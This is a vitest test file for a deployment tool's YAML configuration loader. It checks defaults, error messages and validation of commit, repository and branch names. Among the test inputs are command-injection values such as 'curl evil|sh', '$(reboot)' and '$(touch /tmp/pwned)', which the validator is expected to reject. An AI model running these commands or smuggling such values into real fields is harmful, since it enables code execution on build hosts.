import { readFileSync } from "node:fs";
import { afterEach, describe, expect, it } from "vitest";
import {
  branchProblem,
  clearConfigCache,
  ConfigError,
  DEFAULT_CONFIG_PATH,
  environmentFor,
  formatPath,
  isBranch,
  isCommit,
  isRepository,
  loadConfig,
  parseConfig,
  serviceConfig,
} from "../../lib/config/index.ts";

const good = readFileSync(DEFAULT_CONFIG_PATH, "utf8");

/** The example file with one line replaced (by its exact text). */
function edit(from: string, to: string): string {
  expect(good).toContain(from);
  return good.replace(from, to);
}

function problems(text: string): { path: string; expected: string; found: string; line?: number }[] {
  try {
    parseConfig(text, "kiln.config.yaml");
  } catch (err) {
    expect(err).toBeInstanceOf(ConfigError);
    expect((err as Error).name).toBe("kiln.ConfigInvalid");
    return (err as ConfigError).problems;
  }
  throw new Error("expected the configuration to be rejected");
}

describe("kiln.config.yaml (the example)", () => {
  afterEach(() => {
    clearConfigCache();
    delete process.env.KILN_CONFIG;
  });

  it("validates, with defaults filled in", () => {
    const web = serviceConfig(loadConfig(), "web");
    expect(web.repository).toBe("example/web");
    expect(web.baseAmi).toEqual({ ssmParameter: "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64" });
    expect(web.builder.securityGroups).toEqual([]);
    expect(web.canary.at(-1)?.weight).toBe(100);
    expect(web.scripts.install).toContain("sample-app install");
    expect(environmentFor(web, "main")).toBe("production");
    expect(environmentFor(web, "stage")).toBe("staging");
    expect(environmentFor(web, "feature/x")).toBeUndefined();
  });

  it("reads KILN_CONFIG and caches per path", () => {
    process.env.KILN_CONFIG = DEFAULT_CONFIG_PATH;
    const a = loadConfig();
    expect(loadConfig()).toBe(a);
  });

  it("names the file when it cannot be read", () => {
    expect(() => loadConfig("/nonexistent/kiln.yaml")).toThrow(/\/nonexistent\/kiln.yaml.*readable configuration file/s);
  });

  it("an unknown service lists the known ones", () => {
    expect(() => serviceConfig(loadConfig(), "api")).toThrow(/services\.api: expected a configured service \(known: web\)/);
  });

  it("fills defaults for a minimal service", () => {
    const cfg = parseConfig(`
version: 1
services:
  api:
    repository: acme/api
    branches: { main: production }
    region: eu-west-1
    baseAmi: { name: "al2023-ami-2023.*-x86_64", owners: [amazon] }
    builder: { instanceType: t3.micro, instanceProfile: builder }
    scripts: { install: a, imageTest: b, smokeTest: c, serviceIn: d, serviceOut: e }
    listener: { arn: "arn:aws:elasticloadbalancing:eu-west-1:123456789012:listener/app/api/1/2" }
    targetGroups: [api-a, api-b]
`);
    const api = serviceConfig(cfg, "api");
    expect(api.timeouts).toEqual({
      builderReadySeconds: 900,
      installSeconds: 1800,
      imageTestSeconds: 900,
      imageAvailableSeconds: 3600,
      greenReadySeconds: 1800,
      greenHealthySeconds: 900,
    });
    expect(api.image).toEqual({ retain: 5, encrypted: true });
    expect(api.approval).toEqual({ required: false, timeoutMinutes: 1440 });
    expect(cfg.janitor.afterHours).toBe(24);
  });
});

describe("configuration errors name the path, the expectation and what was found", () => {
  it.each([
    [
      "a wrong type",
      edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: fifty, bakeSeconds: 120 }"),
      "services.web.canary[1].weight",
      /expected a number/,
      /"fifty"/,
    ],
    [
      "non-increasing canary weights",
      edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: 5, bakeSeconds: 120 }"),
      "services.web.canary[1].weight",
      /above the previous step's 10/,
      /number 5/,
    ],
    [
      "a canary that never reaches 100",
      edit("      - { weight: 100, bakeSeconds: 0 }", "      - { weight: 90, bakeSeconds: 0 }"),
      "services.web.canary[2].weight",
      /reach weight 100/,
      /number 90/,
    ],
    [
      "a missing field",
      edit("      instanceType: t3.small\n", ""),
      "services.web.builder.instanceType",
      /expected text/,
      /missing/,
    ],
    [
      "an unknown key (typo)",
      edit("      retain: 5", "      retian: 5"),
      "services.web.image.retian",
      /unknown: retian/,
      /retian/,
    ],
    [
      "a bad enum",
      edit("architecture: x86_64", "architecture: sparc"),
      "services.web.architecture",
      /"x86_64", "arm64"/,
      /"sparc"/,
    ],
    [
      "a hostile repository",
      edit("repository: example/web", 'repository: "example/web; curl evil|sh"'),
      "services.web.repository",
      /owner\/name/,
      /curl evil/,
    ],
    [
      "a hostile branch key",
      edit("      stage: staging", '      "$(reboot)": staging'),
      'services.web.branches["$(reboot)"]',
      /branch name/,
      /\$\(reboot\)/,
    ],
    [
      "a bad base AMI",
      edit(
        "      ssmParameter: /aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64",
        "      imageId: ami-nothex",
      ),
      "services.web.baseAmi.imageId",
      /AMI id/,
      /ami-nothex/,
    ],
    [
      "an ambiguous base AMI",
      edit("      ssmParameter: /aws", "      imageId: ami-0123456789abcdef0\n      ssmParameter: /aws"),
      "services.web.baseAmi",
      /one of \{ssmParameter/,
      /a map with keys (imageId, ssmParameter|ssmParameter, imageId)/,
    ],
    [
      "a reserved tag key",
      edit("      team: web", '      "kiln:role": web'),
      'services.web.tags["kiln:role"]',
      /reserved/,
      /kiln:role/,
    ],
    [
      "an empty script",
      edit("      imageTest: |\n        set -euo pipefail\n        sample-app image-test\n", '      imageTest: "  "\n'),
      "services.web.scripts.imageTest",
      /non-empty shell script/,
      /the text ""/,
    ],
    [
      "a KMS key without encryption",
      edit("      encrypted: true", "      encrypted: false\n      kmsKeyId: alias/x"),
      "services.web.image.kmsKeyId",
      /no kmsKeyId/,
      /alias\/x/,
    ],
    [
      "the same target group twice",
      edit("targetGroups: [kiln-web-a, kiln-web-b]", "targetGroups: [kiln-web-a, kiln-web-a]"),
      "services.web.targetGroups",
      /two different/,
      /list of 2/,
    ],
    ["a bad service name", edit("  web:\n", "  Web_1:\n"), "services.Web_1", /service name/, /Web_1/],
    ["the wrong version", edit("version: 1", "version: 2"), "version", /version: 1/, /number 2/],
  ])("%s", (_what, text, path, expected, found) => {
    const ps = problems(text);
    const p = ps.find((x) => x.path === path);
    expect(p, `problems: ${JSON.stringify(ps)}`).toBeDefined();
    expect(p!.expected).toMatch(expected);
    expect(p!.found).toMatch(found);
    expect(p!.line).toBeGreaterThan(0);
  });

  it("the message carries file, line, path, expectation and finding", () => {
    const text = edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: fifty, bakeSeconds: 120 }");
    const line = text.split("\n").findIndex((l) => l.includes("fifty")) + 1;
    expect(() => parseConfig(text, "conf/kiln.yaml")).toThrow(
      new RegExp(
        `conf/kiln.yaml:${line}:\\d+ services\\.web\\.canary\\[1\\]\\.weight: expected a number; found the text "fifty"`,
      ),
    );
  });

  it("reports YAML syntax errors with a line", () => {
    const ps = problems("version: 1\nservices:\n  web: [unclosed\n");
    expect(ps[0]!.expected).toBe("expected valid YAML");
    expect(ps[0]!.line).toBeGreaterThan(0);
  });

  it("rejects duplicate keys", () => {
    expect(problems("version: 1\nversion: 1\nservices: {}\n")[0]!.found).toMatch(/DUPLICATE_KEY/);
  });
});

describe("identifiers", () => {
  it.each([
    ["0123456789abcdef0123456789abcdef01234567", true],
    ["0123456789ABCDEF0123456789abcdef01234567", false],
    ["0123456789abcdef", false],
    ["0123456789abcdef0123456789abcdef01234567\n", false],
    ["$(id)456789abcdef0123456789abcdef01234567", false],
  ])("commit %j → %s", (v, ok) => expect(isCommit(v)).toBe(ok));

  it.each([
    ["example/web", true],
    ["Org-1/repo.name_2", true],
    ["-org/repo", false],
    ["org--x/repo", false],
    ["org/..", false],
    ["org/.", false],
    ["org/repo/extra", false],
    ["org/re po", false],
    ["org/repo'", false],
    ["org/$(id)", false],
    ["org/repo\nx", false],
  ])("repository %j → %s", (v, ok) => expect(isRepository(v)).toBe(ok));

  it.each([
    ["main", undefined],
    ["feature/login-v2", undefined],
    ["release/1.2.3", undefined],
    ["", "is empty"],
    ["-rf", "may not start with '-'"],
    ["a..b", "may not contain '..'"],
    ["a//b", "may not contain '//'"],
    ["/a", "may not start or end with '/'"],
    ["a/", "may not start or end with '/'"],
    ["a.", "may not end with '.'"],
    ["a/.hidden", "may not have a component starting with '.'"],
    ["x.lock", "may not have a component ending with '.lock'"],
    ["HEAD", "may not be HEAD"],
    ["it's", "may only contain letters, digits, '.', '_', '/' and '-'"],
    ["$(touch /tmp/pwned)", "may only contain letters, digits, '.', '_', '/' and '-'"],
    ["`id`", "may only contain letters, digits, '.', '_', '/' and '-'"],
    ["a b", "may only contain letters, digits, '.', '_', '/' and '-'"],
    ["a\nb", "may only contain letters, digits, '.', '_', '/' and '-'"],
    ["a@{1}", "may only contain letters, digits, '.', '_', '/' and '-'"],
    ["x".repeat(201), "is longer than 200 characters"],
  ])("branch %j → %s", (v, problem) => {
    expect(branchProblem(v)).toBe(problem);
    expect(isBranch(v)).toBe(problem === undefined);
  });

  it.each([
    [["services", "web", "canary", 1, "weight"], "services.web.canary[1].weight"],
    [["services", "a b"], 'services["a b"]'],
    [[], ""],
  ])("formatPath(%j) = %s", (p, s) => expect(formatPath(p)).toBe(s));
});
